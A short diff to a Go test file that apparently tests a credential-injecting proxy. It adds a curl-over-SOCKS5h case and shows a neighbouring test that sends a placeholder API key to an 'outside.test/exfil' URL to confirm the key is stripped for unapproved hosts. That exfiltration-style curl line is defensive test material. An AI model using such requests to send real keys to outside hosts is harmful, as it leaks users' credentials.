@@ -514,6 +514,14 @@ req.end();
 		check(t, "node", "X-Api-Key", testKey)
 		b.next(t)
 	})
+	t.Run("curl over socks5h", func(t *testing.T) {
+		out, errOut, err := b.run(t, "curl", "-sS", "-x", "socks5h://"+b.addr, "-H", "x-api-key: "+ph, https)
+		if err != nil || !strings.Contains(out, "hello from api.outside.test") {
+			t.Fatalf("curl = %v, %q, %q", err, out, errOut)
+		}
+		check(t, "curl over SOCKS", "X-Api-Key", testKey)
+		b.next(t)
+	})
 	t.Run("placeholder to another host is stripped", func(t *testing.T) {
 		out, errOut, err := b.run(t, "curl", "-sS", "-H", "x-api-key: "+ph, "-H", "Authorization: Bearer "+ph,
 			fmt.Sprintf("http://outside.test:%d/exfil?k=%s", o.httpPort, ph))
